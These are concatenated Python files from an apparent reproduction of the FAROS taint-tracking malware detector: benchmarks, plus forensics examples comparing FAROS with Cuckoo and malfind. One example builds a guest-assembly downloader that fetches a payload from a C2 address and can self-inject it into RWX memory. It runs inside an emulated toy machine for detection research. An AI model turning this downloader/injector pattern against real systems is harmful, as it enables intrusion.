# the pipeline phase: worker-offload producer cost vs inline consumption
# ======================================================================


def seed_striped_ring(pipeline, tags):
    """Interleave three netflow tags in 7-byte stripes across the ring.

    Heterogeneous provenance is what makes the gate honest: a copy out
    of a striped source cannot take the uniform-run bulk path, so the
    inline consumer pays per-byte provenance work for every copied byte
    while the producer-side record stays one packed run regardless."""
    for k in range(3):
        addrs = tuple(
            a for a in range(DMA_RING, DMA_RING + PACKET_BYTES)
            if (a // 7) % 3 == k
        )
        pipeline.taint(
            addrs, tags.netflow_tag("9.9.9.9", 4444, "10.0.0.1", 40000 + k)
        )


def emit_copy_round(pipeline, actor_tag, i):
    """One staging copy out of the striped ring (both legs of the gate)."""
    dest = IMAGE_DEST + (i % 16) * PACKET_BYTES
    dest_paddrs = tuple(range(dest, dest + PACKET_BYTES))
    pipeline.phys_copy(
        dest_paddrs, tuple(range(DMA_RING, DMA_RING + PACKET_BYTES)), actor_tag
    )


def compare_pipeline_offload(rounds=80):
    """The decoupled-consumer gate: producer-side cost of streaming.

    The same op sequence -- a stripe-seeded DMA ring, then *rounds*
    kernel copies out of it -- runs twice: once through an ``inline``
    tracker (every event consumed synchronously on the emitting thread,
    so the per-byte provenance work of each heterogeneous copy is on
    the producer's clock) and once through a worker pipeline with
    ``offload=True`` (the producer only packs records and ships them;
    the forked consumer does the propagation).  Gates the producer-side
    speedup at >= 1.5x and asserts zero drift: the worker replica's
    final shadow snapshot, byte count and per-event stats must equal
    the inline tracker's.
    """
    # Leg 1: inline -- consumption on the producer's clock.  Round 0 is
    # an untimed warm-up on both legs: it pays one-off setup (for the
    # offload leg, forking the consumer process) outside the window, so
    # the gate measures steady-state streaming, not process launch.
    inline_tags = TagStore()
    inline = TaintTracker(
        policy=TaintPolicy(process_tags_on_access=True),
        tags=inline_tags,
        interner=ProvInterner(),
    )
    actor = _Actor()
    seed_striped_ring(inline.pipeline, inline_tags)
    actor_tag = inline_tags.process_tag(actor.cr3)
    emit_copy_round(inline.pipeline, actor_tag, 0)
    start = time.perf_counter()
    for i in range(1, rounds):
        emit_copy_round(inline.pipeline, actor_tag, i)
    secs_inline = time.perf_counter() - start

    # Leg 2: worker offload -- the producer only packs and ships.
    offload_tags = TagStore()
    offload = TaintPipeline(None, mode="worker", offload=True)
    seed_striped_ring(offload, offload_tags)
    actor_tag = offload_tags.process_tag(actor.cr3)
    emit_copy_round(offload, actor_tag, 0)
    offload.sync()
    start = time.perf_counter()
    for i in range(1, rounds):
        emit_copy_round(offload, actor_tag, i)
        offload.sync()  # the slice-boundary consistency point
    secs_offload = time.perf_counter() - start
    summary = offload.close()

    assert offload.worker_error is None, offload.worker_error
    assert summary is not None
    assert summary["records"] == offload.emitted_records
    assert summary["snapshot"] == inline.shadow.snapshot(), (
        "worker replica drifted from the inline consumer"
    )
    assert summary["tainted_bytes"] == inline.shadow.tainted_bytes > 0
    from dataclasses import astuple

    assert tuple(summary["stats"]) == astuple(inline.stats), (
        "worker replica's per-event stats drifted from inline"
    )

    speedup = secs_inline / secs_offload
    lines = [
        "pipeline phase, worker-offload producer vs inline consumption "
        f"({rounds} striped copies, {offload.emitted_records} records)",
        f"  inline    : {secs_inline:6.3f}s (emit + consume on one thread)",
        f"  offload   : {secs_offload:6.3f}s (emit + ship only)",
        f"  speedup   : {speedup:.2f}x",
        f"  drift     : none ({summary['tainted_bytes']} tainted bytes, "
        f"{summary['records']} records consumed remotely, identical)",
    ]
    return speedup, "\n".join(lines)


@pytest.mark.slow
def test_pipeline_offload_producer_speedup(emit):
    speedup, report = compare_pipeline_offload()
    emit("pipeline_offload", report)
    assert speedup >= 1.5, f"offload producer only {speedup:.2f}x over inline"


@pytest.mark.slow
def test_bulk_copy_dma_speedup(emit):
    speedup, report = compare_bulk_copy_modes()
    emit("bulk_copy_dma", report)
    assert speedup >= 2.0, f"bulk-copy phase only {speedup:.2f}x over dict-only"


@pytest.mark.slow
def test_mixed_workload_fast_path_speedup(emit):
    speedup, report = compare_fast_vs_reference()
    emit("taint_fast_path", report)
    assert speedup >= 2.0, f"fast path only {speedup:.2f}x over reference"


@pytest.mark.slow
def test_translated_taint_phase_speedup(emit):
    speedup, report = compare_translate_on_vs_off()
    emit("translated_taint", report)
    assert speedup >= 3.0, f"translated taint only {speedup:.2f}x on taint phase"


def main(argv):
    if "--smoke" not in argv:
        print(__doc__)
        return 2
    status = 0
    speedup, report = compare_bulk_copy_modes()
    print(report)
    if speedup < 2.0:
        print(f"FAIL: bulk-copy speedup {speedup:.2f}x < 2x", file=sys.stderr)
        status = 1
    speedup, report = compare_fast_vs_reference()
    print(report)
    if speedup < 2.0:
        print(f"FAIL: fast-path speedup {speedup:.2f}x < 2x", file=sys.stderr)
        status = 1
    speedup, report = compare_pipeline_offload()
    print(report)
    if speedup < 1.5:
        print(
            f"FAIL: offload-producer speedup {speedup:.2f}x < 1.5x",
            file=sys.stderr,
        )
        status = 1
    taint_speedup, report = compare_translate_on_vs_off()
    print(report)
    if taint_speedup < 3.0:
        print(
            f"FAIL: translated-taint phase speedup {taint_speedup:.2f}x < 3x",
            file=sys.stderr,
        )
        status = 1
    print("FAIL" if status else "OK")
    return status


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
