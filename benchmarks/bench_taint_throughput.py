"""Microbenchmarks: raw emulation vs whole-system taint throughput.

Not a paper table -- the ablation DESIGN.md calls out: what does each
layer of FAROS cost per retired instruction?  Three configurations over
the same compute-heavy guest: no plugins, bare tracker (1-bit-ish DIFT,
no process tags), and the full FAROS provenance stack.
"""

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.faros import Faros
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble
from repro.taint.policy import TaintPolicy
from repro.taint.tracker import TaintTracker

WORK = """
start:
    movi r5, 4000
loop:
    muli r6, r6, 3
    addi r6, r6, 7
    xori r6, r6, 0x55
    subi r5, r5, 1
    cmpi r5, 0
    jnz loop
    movi r1, 0
    movi r0, SYS_EXIT
    syscall
"""


def _run(plugins):
    machine = Machine(MachineConfig())
    for plugin in plugins:
        machine.plugins.register(plugin)
    machine.kernel.register_image(
        "work.exe", assemble(program(WORK), base=layout.IMAGE_BASE)
    )
    machine.kernel.spawn("work.exe")
    machine.run(100_000)
    return machine


def test_throughput_bare_emulation(benchmark):
    machine = benchmark(lambda: _run([]))
    assert machine.kernel.processes[100].exit_code == 0


def test_throughput_tracker_only(benchmark):
    machine = benchmark(
        lambda: _run([TaintTracker(policy=TaintPolicy(process_tags_on_access=False))])
    )
    assert machine.kernel.processes[100].exit_code == 0


def test_throughput_full_faros(benchmark):
    machine = benchmark(lambda: _run([Faros()]))
    assert machine.kernel.processes[100].exit_code == 0
