#!/usr/bin/env python3
"""Taint policies: the indirect-flow dilemma and a FAROS-aware evader.

Part 1 reproduces the paper's Figures 1-2 dilemma (E11): the same two
programs under three propagation policies, showing undertainting vs
overtainting.

Part 2 runs the §VI-D evasion -- a stage copied bit-by-bit through
control dependencies, which default FAROS misses -- then shows the
paper's promised answer: updating the *policy* (scoped control-
dependency tracking) catches the same attack without changing the
mechanism.

Run:  python examples/custom_policy.py
"""

from repro.analysis.evasion import taint_laundering_experiment
from repro.analysis.indirect_flows import (
    indirect_flow_experiment,
    render_indirect_flow_table,
)


def main() -> None:
    print("[*] Part 1: Figs. 1-2 under three policies (E11)")
    results = indirect_flow_experiment()
    print(render_indirect_flow_table(results))
    print(
        "    -> 'direct-only' misses both copies (undertainting);\n"
        "       'all-indirect' catches both but taints control-dependent\n"
        "       constants too (overtainting). No global knob is right --\n"
        "       hence FAROS' per-security-policy tag confluence."
    )
    print()

    print("[*] Part 2: the §VI-D laundering evasion (E12)")
    outcome = taint_laundering_experiment()
    print(f"    stage executed:                       {outcome.stage_ran}")
    print(f"    default FAROS policy flags it:        {outcome.default_policy_detected}"
          "   <- the documented evasion")
    print(f"    control-dep-enabled policy flags it:  {outcome.control_dep_policy_detected}"
          "   <- the policy update")
    print(
        "    -> 'while it may be possible to evade FAROS' specific policy\n"
        "       ... it will in turn be possible to update the policy' (§VI-B)."
    )


if __name__ == "__main__":
    main()
