#!/usr/bin/env python3
"""FAROS vs CuckooBox vs Cuckoo+malfind (§VI-B), including transient
self-wiping payloads that defeat point-in-time memory forensics.

Run:  python examples/baseline_comparison.py
"""

from repro.analysis.experiments import comparison_matrix
from repro.analysis.tables import render_comparison_matrix


def main() -> None:
    print("[*] running 3 attack classes x {persistent, transient} under"
          " all three tools (this takes a few seconds) ...\n")
    rows = comparison_matrix(include_transient=True)
    print(render_comparison_matrix(rows))
    print()
    print("Reading the matrix:")
    print(" * Cuckoo alone never flags: the attacks are in-memory-only --")
    print("   no registered DLL load, no anomalous process name, no dropped")
    print("   payload file.")
    print(" * Cuckoo+malfind finds payloads that are still intact in the")
    print("   final dump, but loses the transient (self-wiping) variants,")
    print("   and never has netflow or provenance.")
    print(" * FAROS watches memory THROUGHOUT execution, so wiping after")
    print("   the fact changes nothing, and every flag comes with the full")
    print("   byte history.")


if __name__ == "__main__":
    main()
