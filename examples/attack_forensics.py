#!/usr/bin/env python3
"""Forensics deep-dive on a process-hollowing attack (Fig. 10, §VI-B).

Walks the same evidence trail the paper walks, tool by tool:

1. **pslist** -- the hollowed svchost.exe looks perfectly normal;
2. **vadinfo** -- manual comparison finds one svchost "different from
   the rest" (a private RWX region where its image should be);
3. **malfind** -- finds the PE-bearing anonymous memory, but knows
   nothing about who put it there;
4. **FAROS** -- the full provenance: which process wrote the bytes,
   which file they came out of, and the exact instruction that
   resolved imports from the export table.

Run:  python examples/attack_forensics.py
"""

from repro import Faros
from repro.attacks import build_process_hollowing_scenario
from repro.baselines import CuckooSandbox, malfind, pslist, vadinfo


def main() -> None:
    attack = build_process_hollowing_scenario()

    print("[*] running the sample in the sandbox (Cuckoo-style, no taint) ...")
    report = CuckooSandbox().analyze(attack.scenario)
    machine = report.dump

    print("\n--- step 1: pslist ---")
    for entry in pslist(machine):
        print(f"    {entry}")
    print("    -> svchost.exe is present and looks legitimate.")

    print("\n--- step 2: vadinfo on svchost.exe ---")
    svchost = next(
        p for p in machine.kernel.processes.values() if p.name == "svchost.exe"
    )
    for area in vadinfo(machine, svchost.pid):
        print(f"    {area}")
    print("    -> the image range is PRIVATE memory, not module-backed: odd.")

    print("\n--- step 3: malfind ---")
    for hit in malfind(machine):
        print(f"    {hit}")
    detected, _ = report.detect_injection_with_malfind()
    print(f"    -> malfind verdict: {'DETECTED' if detected else 'clean'} "
          "(but: no injector identity, no history, no netflow)")

    print("\n--- step 4: FAROS (whole-system provenance DIFT) ---")
    faros = Faros()
    attack.scenario.run(plugins=[faros])
    farrep = faros.report()
    print(farrep.render())

    chain = farrep.chains()[0]
    print("\n[*] the story malfind cannot tell:")
    print(f"    stage bytes originated in   {', '.join(chain.file_origins)}")
    print(f"    written cross-process by    {chain.process_chain[-2] if len(chain.process_chain) > 1 else chain.process_chain[0]}")
    print(f"    executed inside             {chain.executing_process}")
    print(f"    flagged when it read the export table at "
          f"{chain.export_table_address:#x} ({chain.rule})")
    log = machine.kernel.fs.get("C:\\keylog.dat")
    if log is not None:
        print(f"    keylogger loot on disk      C:\\keylog.dat = {bytes(log.data)!r}")


if __name__ == "__main__":
    main()
