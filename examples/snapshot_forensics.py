#!/usr/bin/env python3
"""Why one memory dump is not enough: snapshots vs a transient payload.

Runs a self-wiping reflective DLL injection and dumps guest memory at
two instants:

* **T1** -- the stage is still resident (dwelling before cleanup):
  malfind finds a PE-bearing anonymous RWX region in notepad.exe, and
  the disassembly preview shows real code;
* **T2** -- the stage has zeroed itself: the same scan comes back
  clean.

FAROS, watching memory *throughout* execution (the paper's §I
argument), flags the attack no matter when anyone dumps.

Run:  python examples/snapshot_forensics.py
"""

from repro import Faros, build_reflective_dll_scenario
from repro.baselines import MemorySnapshot, malfind


def main() -> None:
    attack = build_reflective_dll_scenario(transient=True)
    faros = Faros()
    machine = attack.scenario.build((faros,))

    print("[*] running until the stage is injected and dwelling ...")
    machine.run(45_000)
    t1 = MemorySnapshot.capture(machine)

    print("[*] running to completion (the stage wipes itself) ...")
    machine.run(400_000)
    t2 = MemorySnapshot.capture(machine)

    for label, snapshot in (("T1", t1), ("T2", t2)):
        hits = malfind(snapshot)
        detections = [h for h in hits if h.detected]
        print(f"\n--- malfind over the {label} dump (tick {snapshot.tick}) ---")
        if not hits:
            print("    no anonymous executable memory found")
        for hit in hits:
            print(f"    {hit}")
        if detections:
            print("    disassembly preview of the finding:")
            for line in detections[0].listing(max_lines=4).splitlines():
                print(f"      {line}")
        print(f"    verdict: {'DETECTED' if detections else 'clean'}")

    print("\n--- FAROS (whole-execution DIFT) ---")
    report = faros.report()
    print(f"    verdict: {'DETECTED' if report.attack_detected else 'clean'}")
    if report.attack_detected:
        chain = report.chains()[0]
        print(f"    chain: {chain.netflow} -> {' -> '.join(chain.process_chain)}")
    print(
        "\nTransient in-memory attacks beat point-in-time forensics; they"
        "\ncannot beat an analysis that watched every instruction."
    )


if __name__ == "__main__":
    main()
