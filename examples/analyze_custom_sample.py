#!/usr/bin/env python3
"""Write and analyse your own guest sample against FAROS.

Shows the library as a downstream user would drive it: author a guest
program in assembly, wrap it in a :class:`Scenario` with scripted
external events, and run it under the FAROS plugin.  The sample here is
a downloader that saves -- but never executes -- a payload, so FAROS
correctly stays quiet; flip ``EXECUTE_PAYLOAD`` to True to turn it into
a self-injector and watch the verdict change.

Run:  python examples/analyze_custom_sample.py
"""

from repro import Faros, Scenario
from repro.attacks.common import assemble_image
from repro.attacks.payloads import PAYLOAD_ENTRY_OFFSET, build_popup_payload
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent
from repro.guestos import layout

#: Flip to True to make the sample execute what it downloads.
EXECUTE_PAYLOAD = False

C2_IP, C2_PORT, GUEST_IP = "10.6.6.6", 8443, "169.254.57.168"


def build_sample(payload_size: int, execute: bool) -> str:
    maybe_execute = (
        f"""
        ; self-inject: copy into RWX memory and run it
        movi r1, {payload_size}
        movi r2, PERM_RWX
        movi r0, SYS_ALLOC
        syscall
        mov r6, r0
        movi r1, buf
        mov r2, r6
        movi r3, {payload_size}
    inj:
        ldb r4, [r1]
        stb [r2], r4
        addi r1, r1, 1
        addi r2, r2, 1
        subi r3, r3, 1
        cmpi r3, 0
        jnz inj
        addi r6, r6, {PAYLOAD_ENTRY_OFFSET}
        callr r6
        """
        if execute
        else """
        ; benign-ish: just drop it to disk
        movi r1, drop_path
        movi r0, SYS_CREATE_FILE
        syscall
        mov r1, r0
        movi r2, buf
        movi r3, {size}
        movi r0, SYS_WRITE_FILE
        syscall
        """.replace("{size}", str(payload_size))
    )
    return f"""
    start:
        movi r0, SYS_SOCKET
        syscall
        mov r7, r0
        mov r1, r7
        movi r2, c2
        movi r3, {C2_PORT}
        movi r0, SYS_CONNECT
        syscall
        movi r4, buf
        movi r5, {payload_size}
    rx:
        mov r1, r7
        mov r2, r4
        mov r3, r5
        movi r0, SYS_RECV
        syscall
        add r4, r4, r0
        sub r5, r5, r0
        cmpi r5, 0
        jnz rx
{maybe_execute}
        movi r1, 0
        movi r0, SYS_EXIT
        syscall
    c2: .asciz "{C2_IP}"
    drop_path: .asciz "C:\\\\payload.bin"
    buf: .space {payload_size}
    """


def main() -> None:
    payload = build_popup_payload(layout.HEAP_BASE).code

    def setup(machine):
        machine.kernel.register_image(
            "sample.exe", assemble_image(build_sample(len(payload), EXECUTE_PAYLOAD))
        )
        machine.kernel.spawn("sample.exe")

    scenario = Scenario(
        name="custom_sample",
        setup=setup,
        events=[
            (15_000, PacketEvent(Packet(C2_IP, C2_PORT, GUEST_IP, 49152, payload)))
        ],
        max_instructions=400_000,
    )

    faros = Faros()
    machine = scenario.run(plugins=[faros])
    report = faros.report()
    print(report.render())
    print()
    mode = "self-injecting" if EXECUTE_PAYLOAD else "download-only"
    print(f"[*] sample mode: {mode}")
    print(f"[*] FAROS verdict: {'FLAGGED' if report.attack_detected else 'clean'}")
    if not EXECUTE_PAYLOAD:
        node = machine.kernel.fs.get("C:\\payload.bin")
        print(f"[*] dropped file present: {node is not None} "
              "(saving tainted bytes is fine; executing them is not)")


if __name__ == "__main__":
    main()
