#!/usr/bin/env python3
"""Quickstart: analyse a reflective DLL injection with FAROS.

This mirrors the paper's §V-C usage scenario end-to-end:

1. run the malware in a recording VM (cheap -- no taint);
2. replay the recording with the FAROS plugin attached;
3. read the report: flagged instructions with full provenance.

Run:  python examples/quickstart.py
"""

from repro import Faros, build_reflective_dll_scenario, record, replay


def main() -> None:
    # The attack: inject_client.exe opens a Meterpreter-style session to
    # 169.254.26.161:4444, receives a reflective DLL stage, and injects
    # it into notepad.exe without touching the loader or the disk.
    attack = build_reflective_dll_scenario()

    print(f"[*] recording scenario {attack.scenario.name!r} ...")
    recording = record(attack.scenario)
    print(
        f"    recorded {recording.final_instret} guest ticks, "
        f"{len(recording.journal)} nondeterministic events journaled"
    )

    print("[*] replaying with the FAROS taint plugin attached ...")
    faros = Faros()
    replay(recording, plugins=[faros])

    report = faros.report()
    print()
    print(report.render())
    print()

    if report.attack_detected:
        chain = report.chains()[0]
        print("[*] reconstructed attack story (Fig. 7 of the paper):")
        print(f"    payload arrived over    {chain.netflow}")
        print(f"    passed through          {' -> '.join(chain.process_chain)}")
        print(f"    flagged instruction     {chain.instruction!r} "
              f"at {chain.instruction_address:#x}")
        print(f"    caught reading export table entry @ "
              f"{chain.export_table_address:#x}")
        print(f"    detection rule          {chain.rule}")
    else:
        print("[!] no attack flagged -- something is wrong")


if __name__ == "__main__":
    main()
